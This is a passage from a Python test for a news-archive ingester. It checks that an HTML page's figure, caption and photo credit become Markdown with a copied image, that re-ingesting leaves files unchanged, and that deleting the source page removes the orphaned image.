    seeds, content = tmp_path / "seeds", tmp_path / "content"
    save_photo(seeds / "harbour_files" / "quay.jpg")
    figure = '<figure><img src="harbour_files/quay.jpg"><figcaption>The quay. <span class="credit">Photo: Ann Lee</span></figcaption></figure>'
    (seeds / "harbour.html").write_text(page(head=DATED, top=figure), encoding="utf-8")
    ingest(seeds, Options(content=content, workers=1))
    markdown_file = next(content.glob("2024/*.md"))
    text = markdown_file.read_text(encoding="utf-8")
    image = re.search(r"^Image: (images/\S+)$", text, re.M)
    assert image and (content / image.group(1)).is_file()
    assert "Caption: The quay." in text and "Credit: Ann Lee" in text
    before = {p: p.read_bytes() for p in content.rglob("*") if p.is_file() and ".newsarchive" not in p.parts}
    report = ingest(seeds, Options(content=content, workers=1))
    assert report.summary().get("unchanged") == 1
    assert before == {p: p.read_bytes() for p in content.rglob("*") if p.is_file() and ".newsarchive" not in p.parts}
    (seeds / "harbour.html").unlink()
    ingest(seeds, Options(content=content, workers=1))
    assert not list((content / "images").glob("*"))
